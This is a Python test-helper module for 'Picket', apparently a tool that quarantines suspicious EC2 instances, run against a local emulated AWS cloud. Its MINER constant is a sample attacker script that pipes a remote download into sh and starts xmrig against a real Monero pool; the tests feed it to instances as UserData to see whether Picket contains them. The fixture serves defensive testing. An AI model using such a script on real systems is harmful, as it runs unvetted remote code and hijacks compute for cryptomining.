"""A Picket that is deployed in a local cloud, as a person beside it sees it: instances, groups, alerts, journal, calls.

Names read as the sentences of the tests. Everything goes through AWS's own protocols, but for the control endpoint of
the local cloud (`control.py` there), which orders faults and tells which calls were made by whom.
"""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import boto3
import environment
from botocore.config import Config
from botocore.exceptions import ClientError

ROOT = Path(__file__).resolve().parents[2]
BINARY = Path(os.environ.get("PICKET_FUNCTIONS", ROOT / "target" / "debug" / "picket-functions"))
CLI = Path(os.environ.get("PICKET", ROOT / "target" / "debug" / "picket"))
MINER = "#!/bin/sh\ncurl -s https://example.com/x | sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A\n"
# Everything counts as new at once, and the many instances of a test run are no blast.
ENFORCING = "version: 1\nmode: enforce\nrisk: {learning: 0s}\nblast_radius: {instances_per_hour: 5000}\n"
WORLD = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
QUEUES = ("triggers", "assess", "respond", "fix", "notices", "watch")
PATIENCE = 3
_numbers = itertools.count(1)


@dataclass
class Place:
    """A VPC of a test's own, with one subnet."""

    vpc: str
    subnet: str


def unique(word: str) -> str:
    """A name that no other test uses."""
    return f"{word}-{next(_numbers)}"


def eventually(check: Callable[[], Any], what: str, seconds: float = 15) -> Any:
    """What `check` returns once it is true. It is asked again and again until the time is over: seconds of a quiet machine,
    and only what fails waits for those of a busy one."""
    deadline = time.monotonic() + seconds * PATIENCE
    while True:
        found = check()
        if found:
            return found
        assert time.monotonic() < deadline, f"not within {seconds * PATIENCE} s: {what}; the last look gave {found!r}"
        time.sleep(0.1)


class Deployment:
    """A stack in an account, and the account around it."""

    def __init__(self, cloud: Any, stack: str):
        self.cloud, self.stack = cloud, stack
        self.account, self.region = environment.ACCOUNT, environment.REGION
        self._clients: dict[tuple, Any] = {}
        self._keys: dict[str, tuple] = {}
        self._queues: dict[str, str] = {}
        self._alerts: list[dict] = []
        self._launched: list[str] = []
        self.ec2 = self.client("ec2")
        self.sqs = self.client("sqs")
        self.apply_policy(ENFORCING)
        self._on_call = self._subscribe("on-call")

    # --- clients

    def client(self, service: str, key: tuple = ()) -> Any:
        """A client of the account's root, or of a key."""
        access, secret, token = (*(key or (self.account, "test")), None)[:3]
        if (service, access) not in self._clients:
            self._clients[service, access] = boto3.client(
                service,
                endpoint_url=self.cloud.endpoint,
                region_name=self.region,
                aws_access_key_id=access,
                aws_secret_access_key=secret,
                aws_session_token=token,
                config=Config(retries={"max_attempts": 0}, proxies={}, read_timeout=100),
            )
        return self._clients[service, access]

    def cloud_client(self, service: str, region: str) -> Any:
        """A client of the account's root in another Region."""
        return boto3.client(
            service, endpoint_url=self.cloud.endpoint, region_name=region, aws_access_key_id=self.account,
            aws_secret_access_key="test", config=Config(retries={"max_attempts": 0}, proxies={}, read_timeout=100))  # fmt: skip

    def key_of(self, user: str) -> tuple:
        """The key of an IAM user who may do everything; made at the first use."""
        if user not in self._keys:
            iam = self.client("iam")
            everything = {"Effect": "Allow", "Action": "*", "Resource": "*"}
            document = json.dumps({"Version": "2012-10-17", "Statement": [everything]})
            iam.create_user(UserName=user)
            iam.put_user_policy(UserName=user, PolicyName="everything", PolicyDocument=document)
            made = iam.create_access_key(UserName=user)["AccessKey"]
            self._keys[user] = (made["AccessKeyId"], made["SecretAccessKey"])
        return self._keys[user]

    def ec2_of(self, user: str) -> Any:
        """EC2 as an IAM user who may do everything."""
        return self.client("ec2", self.key_of(user))

    def made_by(self, user: str) -> Callable[[str], Any]:
        """Makes clients of an IAM user who may do everything, by service."""
        return lambda service: self.client(service, self.key_of(user))

    def session_of(self, function: str) -> tuple:
        """The credentials that a function acts with: a session of its role."""
        role = next(r for r in self.roles() if f"{function.capitalize()}Role" in r["RoleName"])
        made = self.client("sts").assume_role(RoleArn=role["Arn"], RoleSessionName="test")["Credentials"]
        return made["AccessKeyId"], made["SecretAccessKey"], made["SessionToken"]

    def roles(self) -> list[dict]:
        """The roles of the stack's functions."""
        found = self.client("iam").list_roles(PathPrefix=f"/picket/{self.stack}/")["Roles"]
        names = [role["RoleName"] for role in found]
        assert len(found) == 14, f"the stack should have fourteen roles, one a function: {names}"
        return found

    def control(self, method: str, path: str, data: Any = None) -> Any:
        """An order to the local cloud itself."""
        body = json.dumps(data).encode() if data is not None else None
        request = urllib.request.Request(f"{self.cloud.endpoint}/_picket/{path}", data=body, method=method)
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(request, timeout=30) as answer:
            return json.loads(answer.read())

    # --- the account: places, groups, launches

    def new_place(self, ipv6: bool = False) -> Place:
        vpc = self.ec2.create_vpc(CidrBlock="10.0.0.0/16", AmazonProvidedIpv6CidrBlock=ipv6)["Vpc"]["VpcId"]
        subnet = self.ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.0.0/20")["Subnet"]["SubnetId"]
        return Place(vpc, subnet)

    def new_group(self, place: Place, *open_ports: int, user: str = "platform") -> str:
        """A security group that opens these ports to the world; -1 opens all."""
        ec2, name = self.ec2_of(user), unique("group")
        group = ec2.create_security_group(GroupName=name, Description=name, VpcId=place.vpc)["GroupId"]
        for port in open_ports:
            ports = {"IpProtocol": "-1"} if port < 0 else {"IpProtocol": "tcp", "FromPort": port, "ToPort": port}
            ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[{**ports, **WORLD}])
        return group

    def launch(self, user: str, place: Place, groups: list[str], count: int = 1, **more: Any) -> list[str]:
        """Launches instances and remembers them, so that none is left when the test ends."""
        request = {"ImageId": "ami-12345678", "MinCount": count, "MaxCount": count, "InstanceType": "m5.large"}
        if "NetworkInterfaces" not in more:
            request |= {"SubnetId": place.subnet, "SecurityGroupIds": groups}
        answer = self.ec2_of(user).run_instances(**{**request, **more})
        ids = [instance["InstanceId"] for instance in answer["Instances"]]
        self._launched += ids
        return ids

    def launch_miner(self, place: Place, count: int = 1, user: str = "ci-bot", **more: Any) -> list[str]:
        """What an attacker does: large accelerated machines, open to the world, that mine from the start."""
        groups = more.pop("groups", None) or [self.new_group(place, -1, user=user)]
        return self.launch(user, place, groups, count, **{"InstanceType": "g5.48xlarge", "UserData": MINER, **more})

    def end_what_was_launched(self) -> None:
        """Terminates the instances of the test, so that later ones do not meet them."""
        ids, self._launched = self._launched, []
        for instance in ids:
            try:
                self.ec2.terminate_instances(InstanceIds=[instance])
            except ClientError:
                # A quarantine protects what it holds from being ended.
                self.ec2.modify_instance_attribute(InstanceId=instance, DisableApiTermination={"Value": False})
                self.ec2.terminate_instances(InstanceIds=[instance])

    def interfaces_of(self, *instances: str) -> list[dict]:
        mine = [{"Name": "attachment.instance-id", "Values": list(instances)}]
        pages = self.ec2.get_paginator("describe_network_interfaces").paginate(Filters=mine)
        return [interface for page in pages for interface in page["NetworkInterfaces"]]

    def groups_of(self, *instances: str) -> dict[str, list[str]]:
        """The group ids of each interface, in order."""
        found = self.interfaces_of(*instances)
        return {i["NetworkInterfaceId"]: [g["GroupId"] for g in i["Groups"]] for i in found}

    # --- what Picket did

    def contained(self, place: Place, *instances: str, interfaces: int = 1) -> bool:
        """Whether every interface of these instances is in the quarantine group of its VPC and in no other."""
        group, found = self.quarantine_group_of(place), self.groups_of(*instances)
        return len(found) == interfaces * len(instances) and all(groups == [group] for groups in found.values())

    def contain(self, place: Place, *instances: str, interfaces: int = 1, seconds: float = 15) -> None:
        """Waits until these instances are contained."""
        what = f"{', '.join(instances[:3])} alone in the quarantine group of {place.vpc}"
        eventually(lambda: self.contained(place, *instances, interfaces=interfaces), what, seconds)

    def quarantine_group_of(self, place: Place) -> str | None:
        item = self._item(f"vpc#{self.account}#{self.region}", place.vpc)
        return json.loads(item["body"]["S"]) if item else None

    def rules_of(self, group: str) -> list[dict]:
        """Every rule of a group: inbound and outbound, IPv4 and IPv6."""
        found = self.ec2.describe_security_groups(GroupIds=[group])["SecurityGroups"][0]
        return found["IpPermissions"] + found["IpPermissionsEgress"]

    def hold_of(self, instance: str) -> dict | None:
        item = self._item(f"hold#{self.account}#{self.region}", instance)
        return json.loads(item["body"]["S"]) if item else None

    def case_of(self, instance: str) -> str:
        """The case of a hold that is closed."""
        closed = lambda: (self.hold_of(instance) or {}).get("state") == "contained"  # noqa: E731
        eventually(closed, f"the hold of {instance} says contained")
        return self.hold_of(instance)["case"]

    def journal_of(self, case: str) -> list[dict]:
        """The journal's entries, in the order of its keys."""
        wanted = {":pk": {"S": f"case#{case}"}, ":sk": {"S": "journal#"}}
        condition = "pk = :pk AND begins_with(sk, :sk)"
        pages = self.client("dynamodb").get_paginator("query").paginate(
            TableName=f"{self.stack}-state", KeyConditionExpression=condition, ExpressionAttributeValues=wanted
        )
        return [entry for page in pages for item in page["Items"] for entry in json.loads(item["body"]["S"])]

    def events_about(self, case: str, subject: str) -> list[str]:
        """What happened to an interface or instance, in words of the journal."""
        return [entry["event"] for entry in self.journal_of(case) if entry["subject"] == subject]

    def findings(self, account: str = "") -> dict[str, dict]:
        """What is kept of an account, by rule and asset."""
        bodies = [json.loads(row["body"]["S"]) for row in self.items(f"finding#{account or self.account}")]
        return {f"{body['rule']} {body['asset']}": body for body in bodies}

    def alerts(self) -> list[dict]:
        """Every alert that reached the queue of the people on call so far."""
        while True:
            got = self.sqs.receive_message(QueueUrl=self._on_call, MaxNumberOfMessages=10).get("Messages", [])
            if not got:
                return self._alerts
            for message in got:
                self._alerts.append(json.loads(message["Body"]))
                self.sqs.delete_message(QueueUrl=self._on_call, ReceiptHandle=message["ReceiptHandle"])

    def alerts_about(self, word: str, follow_ups: bool = False) -> list[dict]:
        """The alerts that name an instance, a case or anything else; those that complete an alert only if wanted."""
        named = [alert for alert in self.alerts() if word in alert["Message"]]
        completes = ("QUARANTINE COMPLETE", "QUARANTINE NOT WHOLE")
        return [alert for alert in named if follow_ups or not alert["Message"].startswith(completes)]

    def alert_about(self, word: str, says: str, seconds: float = 15) -> dict:
        """Waits for an alert about something that begins with these words."""
        mine = lambda: [a for a in self.alerts_about(word, True) if a["Message"].startswith(says)]  # noqa: E731
        return eventually(mine, f"an alert about {word} that begins with {says!r}", seconds)[0]

    def changes(self, naming: str = "", since: float = 0) -> list[dict]:
        """The calls by which Picket's functions changed, or tried to change, something in EC2 since a time."""
        ours = {role["RoleName"] for role in self.roles()}
        made = self.control("GET", "calls")["calls"]
        changing = [call for call in made if call["service"] == "ec2" and call["mutating"] and call["caller"] in ours]
        return [c for c in changing if c["time"] > since and (not naming or naming in c["resources"])]

    def log_of(self, function: str, since: float = 0) -> list[str]:
        """A function's log lines; `since` is a time in seconds."""
        logs, group = self.client("logs"), f"/aws/lambda/{self.stack}-{function}"
        try:
            pages = logs.get_paginator("filter_log_events").paginate(logGroupName=group, startTime=int(since * 1000))
            return [line for page in pages for e in page["events"] for line in e["message"].splitlines() if line]
        except ClientError as error:
            return [f"no log: {error}"]

    # --- its settings, queues and functions

    def apply_policy(self, text: str) -> None:
        self._put("policy", "current", text)

    def pause(self, why: str) -> None:
        """Sets the pause switch; no reason lifts it."""
        self._put("switch", "pause", why)

    def queue_url(self, name: str) -> str:
        if name not in self._queues:
            self._queues[name] = self.sqs.get_queue_url(QueueName=f"{self.stack}-{name}")["QueueUrl"]
        return self._queues[name]

    def sleep(self, *functions: str) -> None:
        """These functions read their queues no more, and forget what is in them."""
        for function in functions:
            self._reads_its_queue(function, False)
            self.sqs.purge_queue(QueueUrl=self.queue_url(function))

    def wake(self, *functions: str) -> None:
        """These functions read their queues again, from now on."""
        for function in functions:
            self.sqs.purge_queue(QueueUrl=self.queue_url(function))
            self._reads_its_queue(function, True)

    def waiting_in(self, name: str) -> int:
        """How many messages are in a queue, those included that are being worked on or put off."""
        kinds = ("", "NotVisible", "Delayed")
        names = [f"ApproximateNumberOfMessages{kind}" for kind in kinds]
        found = self.sqs.get_queue_attributes(QueueUrl=self.queue_url(name), AttributeNames=names)["Attributes"]
        return sum(int(found.get(name, 0)) for name in names)

    def dead_letters(self) -> dict[str, int]:
        """The dead-letter queues that hold anything."""
        counts = {f"{name}-dead": self.waiting_in(f"{name}-dead") for name in QUEUES}
        return {name: count for name, count in counts.items() if count}

    def empty_queues(self) -> None:
        """Forgets every message, so that what one test left does not meet the next."""
        for name in QUEUES:
            self.sqs.purge_queue(QueueUrl=self.queue_url(name))
            self.sqs.purge_queue(QueueUrl=self.queue_url(f"{name}-dead"))

    def settle(self, seconds: float = 30) -> None:
        """Waits until nothing is on its way any more: no event, no message, put-off ones included."""
        idle = lambda: not self.control("GET", "events")["waiting"] and not any(map(self.waiting_in, QUEUES))  # noqa: E731
        eventually(lambda: idle() and idle(), "no event and no message on its way", seconds)

    def put_events(self, *events: dict) -> None:
        """Puts events on the account's bus as if AWS sent them."""
        self.control("POST", "events", [{"account": self.account, "region": self.region, **event} for event in events])

    def record_of(self, instance: str, name: str = "RunInstances") -> dict:
        """CloudTrail's record of the call that names an instance."""
        wanted = [{"AttributeKey": "ResourceName", "AttributeValue": instance}]
        trail = self.client("cloudtrail")

        def found() -> list[str]:
            events = trail.lookup_events(LookupAttributes=wanted)["Events"]
            return [event["CloudTrailEvent"] for event in events if event["EventName"] == name]

        return json.loads(eventually(found, f"CloudTrail's record of {name} with {instance}")[0])

    def cli(self, *arguments: str, user: str = "") -> subprocess.CompletedProcess[str]:
        """Runs `picket` against this deployment, as a person at a terminal: the account's root, or an IAM user."""
        env = environment.without_real_credentials(dict(os.environ)) | environment.for_clients(self.cloud.port)
        if user:
            env["AWS_ACCESS_KEY_ID"], env["AWS_SECRET_ACCESS_KEY"] = self.key_of(user)
        command = [str(CLI), "--stack", self.stack, *arguments]
        return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)

    def invoke(self, function: str, payload: dict) -> Any:
        """Invokes a function as a person who may."""
        name = f"{self.stack}-{function}"
        answer = self.client("lambda").invoke(FunctionName=name, Payload=json.dumps(payload).encode())
        said = answer["Payload"].read().decode()
        assert "FunctionError" not in answer, f"{name} failed: {said}"
        return json.loads(said)

    def invoke_release(self, **order: Any) -> dict:
        """Orders a release, as often as it is busy; say `case` or `instances`."""
        scope = {"account": self.account, "region": self.region}
        order = {"scope": scope, "by": "alice", "reason": "it was a drill", **order}

        def answer() -> dict | None:
            said = self.invoke("release", order)
            return None if said["is"] == "busy" else said

        return eventually(answer, "an answer of release other than busy")

    def invoke_quarantine(self, *instances: str) -> dict:
        """Orders a quarantine by hand."""
        return self.invoke("respond", {"instances": list(instances), "by": "bob", "reason": "it looks odd"})

    # --- within

    def _reads_its_queue(self, function: str, reads: bool) -> None:
        functions = self.client("lambda")
        mappings = functions.list_event_source_mappings(FunctionName=f"{self.stack}-{function}")["EventSourceMappings"]
        for mapping in mappings:
            functions.update_event_source_mapping(UUID=mapping["UUID"], Enabled=reads)

    def _item(self, pk: str, sk: str) -> dict | None:
        key = {"pk": {"S": pk}, "sk": {"S": sk}}
        found = self.client("dynamodb").get_item(TableName=f"{self.stack}-state", Key=key, ConsistentRead=True)
        return found.get("Item")

    def _put(self, pk: str, sk: str, text: str) -> None:
        item = {"pk": {"S": pk}, "sk": {"S": sk}, "text": {"S": text}, "by": {"S": "test"}}
        self.client("dynamodb").put_item(TableName=f"{self.stack}-state", Item=item)

    def items(self, pk: str) -> list[dict]:
        """All of a partition of the state table, as DynamoDB holds it."""
        pages = self.client("dynamodb").get_paginator("query").paginate(
            TableName=f"{self.stack}-state", KeyConditionExpression="pk = :pk", ExpressionAttributeValues={":pk": {"S": pk}}
        )
        return [row for page in pages for row in page["Items"]]

    def put(self, item: dict) -> None:
        """Writes an item of the state table."""
        self.client("dynamodb").put_item(TableName=f"{self.stack}-state", Item=item)

    def _subscribe(self, name: str) -> str:
        """A queue of the people on call, behind the alerts topic."""
        url = self.sqs.create_queue(QueueName=name)["QueueUrl"]
        queue = f"arn:aws:sqs:{self.region}:{self.account}:{name}"
        topic = f"arn:aws:sns:{self.region}:{self.account}:{self.stack}-alerts"
        allowed = {"Effect": "Allow", "Principal": {"Service": "sns.amazonaws.com"}, "Action": "sqs:SendMessage"}
        statement = {**allowed, "Resource": queue, "Condition": {"ArnEquals": {"aws:SourceArn": topic}}}
        policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
        self.sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": policy})
        self.client("sns").subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue)
        return url
